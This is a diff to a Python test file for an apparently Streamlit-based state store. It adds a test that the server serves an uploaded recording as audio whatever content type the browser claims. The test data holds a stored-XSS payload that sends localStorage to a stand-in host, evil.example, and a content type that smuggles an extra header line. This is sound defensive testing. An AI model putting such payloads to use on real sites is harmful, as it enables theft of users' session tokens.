@@ -9,6 +9,7 @@ import json
 from collections.abc import Callable, Iterator
 from dataclasses import dataclass, field
 from typing import Any
+from urllib.request import urlopen
 
 import psycopg
 import pytest
@@ -17,7 +18,7 @@ from lies import Lies, rounds, seeds
 from served import Server, running
 from streamlit.proto.WidgetStates_pb2 import WidgetState
 
-from streamlit_pgstate import Store, connect
+from streamlit_pgstate import Store, StoredFile, connect
 
 SCRIPT = "../fuzz/app_fuzz.py"
 SQL = psycopg.Connection[Any]
@@ -244,6 +245,31 @@ def test_edits_that_fit_no_table_raise_nothing_of_ours_and_are_not_stored(
         shown = liar.run()
     assert errors_in(app.log)[before:] == []
     assert "'table'" not in " ".join([*after.text, *shown.text])
+
+
+PAGE = b"<script>fetch('//evil.example/' + localStorage)</script>"
+PLAIN_TYPES = (
+    "text/html",
+    "image/svg+xml",
+    "application/xhtml+xml",
+    "",
+    "audio/wav\nX: y",
+    "AUDIO/WAV",
+)
+
+
+@pytest.mark.parametrize("kind", PLAIN_TYPES)
+def test_the_server_sends_a_recording_as_sound_whatever_the_browser_says_it_is(
+    app: Server, store: Store, kind: str
+) -> None:
+    """As a page it would read the token of whoever opens its link: it has the app's own address."""
+    token = store.new_token()
+    store.state(token)["recording"] = StoredFile(PAGE, name="recording.html", type=kind)
+    with Liar(app.port, cookies={f"pgstate.app.{app.port}.": token}) as liar:
+        (path,) = liar.run().media
+        with urlopen(f"{app.address}{path}") as answer:
+            assert answer.read() == PAGE
+            assert answer.headers["Content-Type"].startswith("audio/")
 
 
 def test_a_tab_is_copied_once_however_often_its_browser_asks_for_it(app: Server, sql: SQL) -> None:
